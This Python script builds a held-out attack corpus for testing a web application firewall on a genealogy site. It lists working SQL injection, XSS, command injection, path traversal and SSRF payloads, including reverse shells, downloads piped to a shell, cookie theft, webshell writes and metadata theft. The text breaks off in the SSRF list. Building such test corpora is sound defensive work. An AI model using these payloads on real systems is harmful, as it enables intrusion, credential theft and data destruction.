#!/usr/bin/env python3
"""Held-out ATTACK corpus for the WAF: genealogy / family-history site.

Each value is a working payload against a vulnerable genealogy application
that places the field where the class says: a surname concatenated into SQL,
a scan file name passed to a shell (thumbnailer, OCR, exporter), a GEDCOM
media path opened from disk, a "source URL" fetched for a citation preview,
a report template rendered server-side, a note rendered as HTML without
escaping, a download file name copied into a response header, a member
search placed into an LDAP filter, a tree lookup built as an XPath query...

Class format: <context>-<technique>[+<encoding>]; "plain-" classes carry the
payload with no domain wrapping.  All literals were hand-written for this
corpus from an understanding of each technique; the few template functions
recombine hand-written pools.  Attacker infrastructure is restricted to
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24;
credentials and keys are placeholders.

Output: attacks.jsonl next to this file, byte-identical on every run.
"""

import json
import random
import sys
from pathlib import Path

SEED = 6102
PREFIX = "ha61"

# target size per category (literals first, templates fill the remainder)
TARGETS = {
    "sqli": 80, "xss": 78, "cmdi": 72, "traversal": 50, "ssrf": 50,
    "code": 78, "nosqli": 25, "crlf": 30, "ldap-xpath": 21,
}

# ---------------------------------------------------------------------------
# SQL injection: surname / place / date / citation fields concatenated into
# SQL (MySQL, PostgreSQL, SQLite, MSSQL, Oracle back ends)
# ---------------------------------------------------------------------------
SQLI = [
    ("surname-union", "Heide' UNION SELECT username, password_hash, email FROM members-- -"),
    ("surname-union", "O''Neill' UNION ALL SELECT NULL, concat(login,':',pw_hash), NULL, NULL FROM users#"),
    ("surname-boolean-blind", "Kowalski' AND SUBSTRING((SELECT pw_hash FROM members WHERE id=1),1,1)='a"),
    ("surname-time-blind", "Sleep' AND SLEEP(5) AND 'x'='x"),
    ("given-stacked-time", "Johann'; SELECT pg_sleep(7)--"),
    ("given-time-blind", "Hans'||(SELECT CASE WHEN (SELECT count(*) FROM pg_user WHERE usesuper)>0 THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("year-boolean", "1843 AND 1=1"),
    ("year-union", "1843 UNION SELECT 1,table_name,3,4 FROM information_schema.tables"),
    ("year-error", "1843 AND extractvalue(1,concat(0x7e,(SELECT version())))"),
    ("year-error", "1844 AND updatexml(null,concat(0x3a,(SELECT user())),null)"),
    ("place-error-mssql", "Much Wenlock' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("place-error-pg", "Ludlow' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("place-stacked-drop", "Bridgnorth'; DROP TABLE citations;--"),
    ("place-stacked-update", "Shrewsbury'; UPDATE members SET role='admin' WHERE email='x@attacker.example';--"),
    ("note-insert-stacked", "bapt. 3 Mar 1790'); INSERT INTO members(email,role) VALUES('a@attacker.example','admin');--"),
    ("citation-oob-mssql", "HO107/912'; EXEC master..xp_dirtree '\\\\203.0.113.9\\x';--"),
    ("citation-union-file-read", "PROB 11/1220' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("citation-oob-oracle", "film 1234567' AND (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("date-tautology", "abt. 1843' OR '1'='1"),
    ("date-tautology+comment-space", "bef. 3 Mar 1790'/**/OR/**/1=1#"),
    ("search-like-blind", "Heid%' AND 1=(SELECT 1 FROM members WHERE role='admin' AND pw_hash LIKE 'a%')-- "),
    ("sort-orderby-error", "birth_year,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("sort-orderby-blind", "(CASE WHEN (SELECT substr(pw_hash,1,1) FROM members LIMIT 1)='a' THEN surname ELSE given END)"),
    ("sort-orderby-time", "surname ASC, IF(1=1,SLEEP(4),0)"),
    ("surname-union-sqlite", "Null' UNION SELECT name, sql, NULL FROM sqlite_master--"),
    ("surname-heavy-query-sqlite", "Heide' AND 123=LIKE('ABC',UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("surname-time-mssql", "Kavanagh'; IF (SELECT COUNT(*) FROM members)>0 WAITFOR DELAY '0:0:6';--"),
    ("surname-time-oracle", "Brien' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("gedcom-name-union", "1 NAME Johann /Heide' UNION SELECT sid, secret, 3 FROM api_keys--/"),
    ("gedcom-note-multirow-insert", "1 NOTE x'),('1','admin','x@attacker.example')-- "),
    ("gedcom-plac-error", "2 PLAC Ludlow' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("census-age-tautology", "Wm Smith | Head | Mar | 45 OR 1=1 | Ag Lab | Salop"),
    ("dna-cm-union", "87 UNION SELECT kit_id, raw_file_path FROM dna_kits"),
    ("dna-segment-blind", "15' AND ascii(substr((SELECT kit_token FROM dna_kits WHERE id=2),1,1))>77-- "),
    ("member-login-comment", "admin'-- "),
    ("member-login-tautology", "ruth@example.org' OR 1=1 LIMIT 1-- -"),
    ("search-pg-json-blind", "x' OR (SELECT data->>'token' FROM sessions LIMIT 1) LIKE 'a%'--"),
    ("surname-union+hex", "Heide' UNION SELECT 1, 0x2f6574632f706173737764, LOAD_FILE(0x2f6574632f706173737764)-- -"),
    ("note-stacked-exec-concat", "'; EXEC('master..xp_'+'cmdshell ''ping 203.0.113.4''');--"),
    ("note-stacked-sqlite-attach", "x'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("note-stacked-pg-copy-program", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/$(id|base64)';--"),
    ("citation-union-outfile", "x' UNION SELECT '<?php passthru($_GET[\"c\"]);?>',2,3 INTO OUTFILE '/var/www/html/media/c.php'-- -"),
    ("year-range-tautology", "1795) OR (1=1"),
    ("surname-union+versioned-comment", "Heide'/*!50000UNION*//*!50000SELECT*/ user,authentication_string FROM mysql.user-- -"),
    ("surname-union+case", "Heide' UnIoN SeLeCt NULL, pw_hash FROM members-- "),
    ("surname-union+url", "Heide%27%20UNION%20SELECT%20email%2Cpw_hash%20FROM%20members--%20"),
    ("surname-tautology+url2", "Heide%2527%2520OR%25201%253D1--%2520"),
    ("search-boolean-blind", "Heide' AND (SELECT COUNT(*) FROM members WHERE role='admin')>2 AND 'a'='a"),
    ("search-union-version", "Hartley' AND '1'='2' UNION SELECT 1,@@version,3-- -"),
    ("citation-second-order", "Wenlock Parish Registers' || (SELECT token FROM api_keys LIMIT 1) || '"),
    ("source-title-having-error", "Kirchenbuch' HAVING 1=1--"),
    ("surname-union-group-concat", "Heide' UNION SELECT 1,GROUP_CONCAT(email,0x3a,pw_hash SEPARATOR 0x0a) FROM members-- -"),
    ("surname-union-string-agg", "Heide' UNION SELECT NULL, string_agg(email||':'||pw_hash, ';') FROM members--"),
    ("place-boolean-sqlite", "Ludlow' AND substr((SELECT sql FROM sqlite_master WHERE type='table' LIMIT 1),1,6)='CREATE"),
    ("note-stacked-pg-read-file", "x'; SELECT $$a$$ || pg_read_file('/etc/passwd');--"),
    ("date-time-benchmark", "12 JUN 1844' AND BENCHMARK(30000000,SHA1('heide'))-- -"),
    ("gedcom-refn-boolean", "1 REFN 77' OR EXISTS(SELECT 1 FROM members WHERE email LIKE '%@example.org')-- "),
    ("dna-kit-boolean", "A123456' AND 1=(SELECT COUNT(*) FROM information_schema.columns WHERE column_name='pw_hash')-- "),
    ("date-error-pg", "1851/52' AND 1=cast(version() as int)--"),
    ("forum-search-union", "workhouse%') UNION SELECT id, body, author FROM private_messages-- -"),
    ("census-ed-union", "123 UNION SELECT NULL,NULL,current_setting('data_directory')--"),
    ("surname-union-oracle", "Hartley' UNION SELECT owner, table_name FROM all_tables--"),
    ("surname-error-oracle", "Smyth' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("surname-error-mssql", "Sleep' AND 1=@@version--"),
    ("place-stacked-openrowset", "Ludlow'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.20;uid=sa;pwd=placeholder','select 1');--"),
    ("year-conditional-error", "1790 AND (SELECT CASE WHEN (SELECT COUNT(*) FROM members)>10 THEN 1 ELSE 1/(SELECT 0) END)=1"),
    ("register-note-json-blind", "Baptizatus est Joannes' AND JSON_EXTRACT((SELECT settings FROM site_config LIMIT 1),'$.smtp_password') LIKE 'a%' AND 'x'='x"),
    ("given-blind-mid", "Hans' AND MID(@@datadir,1,1)='/'-- -"),
    ("plain-tautology", "' OR ''='"),
    ("plain-orderby-probe", "1' ORDER BY 7-- -"),
    ("plain-tautology-paren", "') OR ('a'='a"),
    ("plain-tautology-dquote", "\" OR \"\"=\""),
    ("plain-stacked-time", "1; SELECT pg_sleep(10)"),
    ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL-- "),
    ("plain-tautology-numeric", "42 OR 1=1"),
    ("plain-comment-truncation", "admin'#"),
]

SQL_SURNAMES = ["Heide", "Kowalski", "Hartley", "Dunleavy", "Tonkin", "Oakes", "Case",
                "Kavanagh", "Dohrmann", "Wisniewski"]
SQL_TAILS = [
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM members)>{n} AND 'q'='q"),
    ("union", "' UNION SELECT NULL, email, pw_hash FROM members LIMIT {n}-- -"),
    ("time-blind", "' AND SLEEP({n})-- -"),
    ("stacked-time", "'; SELECT pg_sleep({n});--"),
    ("error", "' AND 1=CAST((SELECT pw_hash FROM members OFFSET {n} LIMIT 1) AS int)--"),
    ("time-mssql", "'; WAITFOR DELAY '0:0:{n}';--"),
]


def tpl_sqli(rng):
    tech, tail = rng.choice(SQL_TAILS)
    ctx = rng.choice(["surname", "search", "variant"])
    return f"{ctx}-{tech}", rng.choice(SQL_SURNAMES) + tail.format(n=rng.randrange(3, 12))


# ---------------------------------------------------------------------------
# XSS: notes, forum posts, transcriptions, names and place names rendered
# into HTML / attributes / inline scripts / href without escaping
# ---------------------------------------------------------------------------
XSS = [
    ("forum-script-exfil", "Looking for Heide family <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("note-img-onerror", "Photo of Hans c.1890 <img src=x onerror=\"new Image().src='//attacker.example/k?c='+encodeURIComponent(document.cookie)\">"),
    ("gedcom-note-svg-onload", "1 NOTE <svg onload=alert(document.domain)>"),
    ("name-attr-breakout", "Hans\" autofocus onfocus=\"alert(document.cookie)"),
    ("place-attr-breakout", "Ludlow' onmouseenter='fetch(`//attacker.example/p?`+document.cookie)"),
    ("name-js-string-escape", "O\\';alert(document.domain)//"),
    ("name-script-close", "Heide</script><script>alert(origin)</script>"),
    ("search-js-template-literal", "${fetch('//attacker.example/t?'+localStorage.getItem('token'))}"),
    ("source-url-javascript", "javascript:alert(document.domain)//https://www.familysearch.org/ark:/61903/1:1:XXXX"),
    ("source-url-javascript+html-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("source-url-data-uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("forum-details-ontoggle", "<details open ontoggle=alert(document.cookie)><summary>1841 census</summary></details>"),
    ("transcription-iframe-srcdoc", "[illegible] <iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("forum-markdown-link", "See the register here: [bapt. 1790](javascript:alert(document.cookie))"),
    ("forum-markdown-image-breakout", "![scan](x\" onerror=\"alert(1))"),
    ("note-input-autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("place-popup-img", "Kolozsvár <img src=1 onerror=alert(document.domain)>"),
    ("census-row-video-source", "Wm Smith | Head | <video><source onerror=\"alert(1)\"></video> | 45"),
    ("citation-object-data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("name-css-animation", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(document.cookie)\">Heide</b>"),
    ("gedcom-cont-anchor", "2 CONT <a href=\"javascript:fetch('//attacker.example/?'+document.cookie)\">see letter of 1902</a>"),
    ("note-mxss-namespace", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("forum-svg-animate", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("name-script+case", "Heide<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("note-onerror+unicode-escape", "<img src=x onerror=\"\\u0061lert(document.cookie)\">"),
    ("note-onerror+html-entities", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">"),
    ("search-reflected+url", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-reflected+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("dna-note-body-onload", "Match 'jhartley1952' <body onload=alert(1)>"),
    ("forum-base-href", "<base href=\"//attacker.example/\">"),
    ("forum-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("note-form-injection", "<form action=\"https://attacker.example/steal\" method=post><input name=password placeholder=\"Re-enter password to view record\"><button>Continue</button></form>"),
    ("name-json-breakout", "\"};alert(document.domain);//"),
    ("name-unquoted-attr", "x onpointerenter=alert(1)"),
    ("place-title-breakout", "Breslau</title><script>alert(1)</script>"),
    ("note-textarea-breakout", "</textarea><script>alert(document.domain)</script>"),
    ("portrait-svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><text y=\"20\">Heide family crest</text></svg>"),
    ("gedcom-titl-img", "3 TITL Hans & Grete, 1890<img src=x onerror=alert(document.cookie)>"),
    ("source-url-attr-breakout", "https://www.familysearch.org/\" onclick=\"alert(1)"),
    ("source-url-javascript+whitespace", "java\tscript:alert(1)"),
    ("source-url-javascript+case", "JaVaScRiPt:alert(document.domain)"),
    ("note-constructor-eval", "<img src=x onerror=\"[].constructor.constructor('alert(document.domain)')()\">"),
    ("forum-svg-atob+base64", "<svg/onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-angularjs-csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("note-vue2-csti", "{{ _c.constructor('alert(document.cookie)')() }}"),
    ("note-audio-onerror", "<audio src onerror=alert(document.domain)>"),
    ("forum-marquee-onstart", "<marquee onstart=alert(1)>Heide reunion 2025</marquee>"),
    ("forum-svg-xlink", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"10\" y=\"20\">family tree</text></a></svg>"),
    ("note-embed-data", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("forum-bbcode-url", "[url=javascript:alert(document.cookie)]Ludlow baptisms[/url]"),
    ("forum-bbcode-img", "[img]x\" onerror=\"alert(1)[/img]"),
    ("dna-csv-cell", "15,48213456,62901234,14.6,<img src=x onerror=alert(1)>"),
    ("scan-filename-reflected", "hans_1890\"><svg onload=alert(1)>.jpg"),
    ("register-external-script", "Baptizatus est Joannes <script src=//attacker.example/x.js></script>"),
    ("note-dom-clobbering", "<form id=config><input name=apiBase value=\"https://attacker.example/\"></form>"),
    ("tree-jsonp-callback", "alert(document.domain)//"),
    ("search-dom-hash", "#<img src=x onerror=alert(1)>"),
    ("forum-svg-foreignobject", "<svg><foreignObject><iframe src=\"javascript:alert(document.domain)\"></iframe></foreignObject></svg>"),
    ("note-img+newline", "<img\nsrc=x\nonerror=alert(1)>"),
    ("forum-svg-slash", "Any Heide researchers?<svg/onload=alert(document.domain)>"),
    ("census-row-td-breakout", "Null</td></tr><tr><td><img src=x onerror=alert(document.cookie)></td>"),
    ("name-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("note-svg-script-href", "<svg><script href=\"//attacker.example/x.js\"></script></svg>"),
    ("forum-iframe-javascript", "<iframe src=\"javascript:parent.fetch('//attacker.example/'+document.cookie)\"></iframe>"),
    ("date-html-img", "abt. 1843<img src=x onerror=alert(1)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(document.cookie)</script>"),
    ("plain-svg-onload", "'><svg onload=alert(1)>"),
    ("plain-javascript-url", "javascript:alert(1)"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
]

XSS_PREFIX = [
    ("forum", "Re: Kavanagh of Kells — "), ("forum", "Brick wall, Mary Sleep b. c1790 "),
    ("note", "Hans emigrated 1882 "), ("note", "1 NOTE see letter of 1902 "),
    ("transcription", "Baptizatus est Joannes filius Petri "), ("transcription", "Den 3ten März 1790 "),
    ("place", "Lemberg (Lwów, Lviv) "), ("citation", "HO107/912/5 f. 12 "),
]
XSS_VECTORS = [
    ("img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("svg-onload", "<svg onload=alert(document.cookie)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("iframe-javascript", "<iframe src=javascript:alert(document.domain)>"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("input-onfocus", "<input onfocus=alert(document.domain) autofocus>"),
    ("anchor-javascript", "<a href=\"javascript:alert(document.cookie)\">scan</a>"),
]


def tpl_xss(rng):
    ctx, pre = rng.choice(XSS_PREFIX)
    tech, vec = rng.choice(XSS_VECTORS)
    return f"{ctx}-{tech}", pre + vec


# ---------------------------------------------------------------------------
# Command injection: scan file names (thumbnailer / OCR), export names,
# OCR language, rotation angle, DNA kit ids, archive host "check" (ping),
# geocoder, sendmail, git / ssh / tar / curl argument injection
# ---------------------------------------------------------------------------
CMDI = [
    ("scan-filename-semicolon", "HO107_0912_f12.jpg; cat /etc/passwd"),
    ("scan-filename-subshell", "Taufen_1790_S043$(id).tif"),
    ("scan-filename-backtick", "letter_1902_`uname -a`.png"),
    ("scan-filename-pipe-netcat", "census1851.jpg | nc 203.0.113.14 4444 -e /bin/sh"),
    ("scan-filename-and-curl-sh", "grave_Null_Isaac.jpg && curl -s http://attacker.example/s.sh | sh"),
    ("scan-filename-or-wget", "nonexistent.jpg || wget -qO- http://198.51.100.23/x | bash"),
    ("scan-filename-newline", "portrait_hans.jpg\nid > /var/www/html/media/o.txt"),
    ("ocr-lang-semicolon-time", "deu+lat; sleep 10"),
    ("ocr-lang-ifs", "deu;cat${IFS}/etc/passwd"),
    ("ocr-lang-brace-expansion", "lat;{cat,/etc/shadow}"),
    ("rotate-angle-ping-time", "90;ping -c 12 127.0.0.1"),
    ("rotate-angle-backtick-time", "270`sleep 8`"),
    ("dna-kit-reverse-shell", "A123456 ; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    ("dna-kit-subshell-exfil", "T987654$(curl -d @/etc/passwd http://attacker.example/u)"),
    ("archive-host-dns-exfil", "www.archion.de; nslookup $(whoami).x.attacker.example"),
    ("archive-host-python-shell", "szukajwarchiwach.gov.pl && python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("export-name-glob", "heide_tree;/???/c?t /???/p?ss??"),
    ("export-name-quote-split", "heide;c''a\"\"t /e't'c/pa''ss\"w\"d"),
    ("export-name-var-concat", "tree;a=ca;b=t;$a$b /etc/hostname"),
    ("export-name-ansi-c+hex", "tree;$'\\x63\\x61\\x74' /etc/passwd"),
    ("export-name-pipe-sh+base64", "tree;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("export-name-positional-empty", "tree;c$@at /etc/pass$@wd"),
    ("export-name-webshell-write", "tree; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/media/thumbs/t.php"),
    ("backup-name-tar-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("source-url-curl-argument", "-o /var/www/html/media/s.php http://attacker.example/s.txt"),
    ("tree-sync-git-argument", "--upload-pack=touch /tmp/pwned"),
    ("tree-sync-git-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("sync-host-ssh-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/o' x"),
    ("scan-filename-imagemagick-pipe", "|id > /tmp/im.txt"),
    ("scan-filename-windows-amp", "1841census.jpg & type C:\\Windows\\win.ini"),
    ("scan-filename-windows-powershell", "scan.tif | powershell -NoP -c \"iwr http://attacker.example/p.ps1 -UseBasicParsing | iex\""),
    ("scan-filename-windows-caret", "scan.tif & w^h^o^a^m^i"),
    ("scan-filename-windows-certutil", "scan.tif && certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("contact-email-sendmail-argument", "cousin@example.org -X/var/www/html/media/log.php"),
    ("gedcom-file-header", "0 HEAD\n1 FILE heide.ged;curl http://attacker.example/$(hostname)"),
    ("place-geocode-double-quote", "Ludlow\"; id; echo \""),
    ("place-geocode-single-quote", "Much Wenlock'; id; echo '"),
    ("place-geocode-quote-subshell", "Ludlow'$(id)'"),
    ("surname-newline+url", "Heide%0aid"),
    ("scan-filename-semicolon+url", "scan.jpg%3Bcat%20%2Fetc%2Fpasswd"),
    ("date-busybox-telnetd", "1844-06-12; /bin/busybox telnetd -l /bin/sh -p 4445"),
    ("date-gnu-file-argument", "-f /etc/shadow"),
    ("export-password-zip-argument", "x -T -TT 'sh -c id'"),
    ("export-name-env-exfil", "tree;env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("scan-filename-tab-separator", "scan.jpg;ping\t-c\t9\t127.0.0.1"),
    ("export-name-awk", "x;awk 'BEGIN{system(\"id\")}'"),
    ("export-name-python", "x;python3 -c \"__import__('os').system('id')\""),
    ("export-name-destructive", "x; rm -rf /srv/genealogy/media"),
    ("export-name-cron-persistence", "x;(crontab -l;echo '* * * * * curl -s http://attacker.example/b|sh')|crontab -"),
    ("export-name-ssh-key", "x;mkdir -p ~/.ssh;echo 'ssh-ed25519 AAAAPLACEHOLDERKEYNOTREAL attacker' >> ~/.ssh/authorized_keys"),
    ("research-log-logger-subshell", "Searched Kirchenbuch Heide 1790; $(curl -s attacker.example/i|sh)"),
    ("scan-filename-backtick+base64", "Heide`echo${IFS}aWQ=|base64${IFS}-d|sh`"),
    ("scan-filename-windows-unc-exec", "scan.tif & \\\\203.0.113.8\\s\\nc.exe -e cmd.exe 203.0.113.8 4444"),
    ("surname-crlf-separator", "Heide\r\nwhoami"),
    ("ocr-lang-process-substitution", "eng;cat <(id) >/tmp/o"),
    ("thumb-size-subshell-ifs", "640x480$(sleep${IFS}7)"),
    ("ocr-lang-perl", "eng;perl -e 'system(\"id\")'"),
    ("gedcom-obje-file-dropper", "2 FILE scans/1841.jpg;wget http://198.51.100.23/t -O /tmp/t;chmod +x /tmp/t;/tmp/t"),
    ("census-row-subshell", "Wm Smith | Head | $(cat /etc/passwd) | 45"),
    ("dna-raw-file-backtick", "raw_23andme.txt`curl attacker.example/d?h=$(hostname)`"),
    ("archive-host-windows-loop", "archion.de & for /L %i in (1,1,9) do ping -n 2 127.0.0.1"),
    ("forum-attachment-var-substring", "letter.pdf;${PATH:0:1}bin${PATH:0:1}id"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| id"),
    ("plain-backtick", "`id`"),
    ("plain-subshell", "$(whoami)"),
    ("plain-and", "&& cat /etc/passwd"),
    ("plain-time", "; sleep 10 #"),
    ("plain-or-ping", "|| ping -c 10 127.0.0.1"),
]

CMD_FILES = ["HO107_0912_f12.jpg", "Taufen_1790_S043.tif", "1881_RG11_2603_f44.png",
             "headstone_Sleep_1861.jpg", "kowalewo_1843_akt27.jpg", "bible_page2.png",
             "westphalia_manifest_p3.tif"]
CMD_SEPS = [("semicolon", ";"), ("and", " && "), ("pipe", " | "), ("or", " || "),
            ("newline", "\n")]
CMD_CMDS = ["id", "cat /etc/passwd", "curl -s http://attacker.example/x | sh",
            "sleep 9", "uname -a > /var/www/html/media/u.txt",
            "wget -qO /tmp/a http://198.51.100.23/a && sh /tmp/a",
            "nslookup `whoami`.n.attacker.example"]


def tpl_cmdi(rng):
    name, sep = rng.choice(CMD_SEPS)
    return f"scan-filename-{name}", rng.choice(CMD_FILES) + sep + rng.choice(CMD_CMDS)


# ---------------------------------------------------------------------------
# Path traversal: scan image paths, GEDCOM 2 FILE references, download /
# export names, report templates, language files, archive entry names
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("scan-path-dotdot", "scans/1841/../../../../../etc/passwd"),
    ("gedcom-file-dotdot", "1 OBJE\n2 FILE ../../../../../../etc/shadow\n3 FORM jpg"),
    ("gedcom-file-absolute", "2 FILE /etc/passwd"),
    ("gedcom-file-windows-dotdot", "2 FILE ..\\..\\..\\..\\Windows\\win.ini"),
    ("download-dotdot+url", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("download-dotdot+url2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("download-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("download-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("scan-path-nested-strip", "....//....//....//....//etc/passwd"),
    ("scan-path-nested-strip-dot", "..././..././..././etc/hosts"),
    ("scan-path-null-byte+url", "../../../../etc/passwd%00.jpg"),
    ("media-path-semicolon", "/media/..;/..;/WEB-INF/web.xml"),
    ("template-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("import-file-scheme", "file:///etc/passwd"),
    ("scan-path-proc-environ", "../../../../proc/self/environ"),
    ("scan-path-proc-cwd", "/proc/self/cwd/config/settings.py"),
    ("scan-path-ssh-key", "../../../../home/genealogy/.ssh/id_rsa"),
    ("export-name-dotenv", "../../.env"),
    ("log-view-nginx", "../../../../var/log/nginx/access.log"),
    ("scan-path-mixed-slash", "..\\/..\\/..\\/etc/passwd"),
    ("scan-path-dotdot+fullwidth", "．．/．．/．．/etc/passwd"),
    ("download-dotdot+iis-unicode", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("report-template-dotdot", "report_templates/../../../../etc/passwd"),
    ("lang-file-dotdot", "de/../../../../../etc/passwd"),
    ("gedzip-entry-zip-slip", "../../../../var/www/html/media/shell.php"),
    ("gedzip-entry-zip-slip-windows", "..\\..\\..\\inetpub\\wwwroot\\x.aspx"),
    ("scan-path-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("scan-path-docker-secret", "/run/secrets/db_password"),
    ("scan-path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("scan-path-aws-credentials", "../../../../root/.aws/credentials"),
    ("scan-path-windows-dotdot", "scans\\..\\..\\..\\web.config"),
    ("download-dotdot+url-lower", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("download-dotdot+url-upper", "%2E%2E%2F%2E%2E%2F%2E%2E%2Fetc%2Fshadow"),
    ("export-name-git-config", "../../.git/config"),
    ("scan-path-htpasswd", "../../../etc/nginx/.htpasswd"),
    ("import-file-scheme+url", "file:%2F%2F%2Fetc%2Fpasswd"),
    ("scan-path-proc-fd", "/proc/self/fd/3"),
    ("scan-path-windows-forward-slash", "C:/inetpub/wwwroot/web.config"),
    ("report-ads-stream", "report.asp::$DATA"),
    ("gedcom-file-app-settings", "1 OBJE\n2 FILE ../../app/settings.py\n3 TITL Grandma's recipe book"),
    ("scan-path-dotdot-dotenv", "1851/HO107_1985/../../../../../../app/.env"),
    ("scan-path-unc", "\\\\203.0.113.7\\share\\x.jpg"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-deep-dotdot", "../../../../../../../../../../etc/hosts"),
]

TRAV_BASES = ["scans/1841/", "media/", "photos/headstones/", "images/", "uploads/tree42/"]
TRAV_TARGETS = ["etc/passwd", "etc/hostname", "proc/self/cmdline", "var/www/app/.env",
                "home/genealogy/.bash_history", "etc/ssl/private/site.key"]


def tpl_traversal(rng):
    depth = rng.randrange(4, 9)
    if rng.randrange(2):
        return ("scan-path-dotdot",
                rng.choice(TRAV_BASES) + "../" * depth + rng.choice(TRAV_TARGETS))
    return ("gedcom-file-dotdot",
            "1 OBJE\n2 FILE " + "../" * depth + rng.choice(TRAV_TARGETS))


# ---------------------------------------------------------------------------
# SSRF: citation "source URL" preview, portrait-by-URL, GEDCOM import URL,
# webhooks; cloud metadata, internal services, alternative IP notations
# ---------------------------------------------------------------------------
SSRF = [
    ("source-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("source-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("portrait-url-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("import-url-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("import-url-do-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("source-url-localhost-admin", "http://127.0.0.1:8080/admin/"),
    ("import-url-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example/s%7Csh%5Cn%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("import-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("source-url-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("portrait-url-docker-api", "http://127.0.0.1:2375/containers/json"),
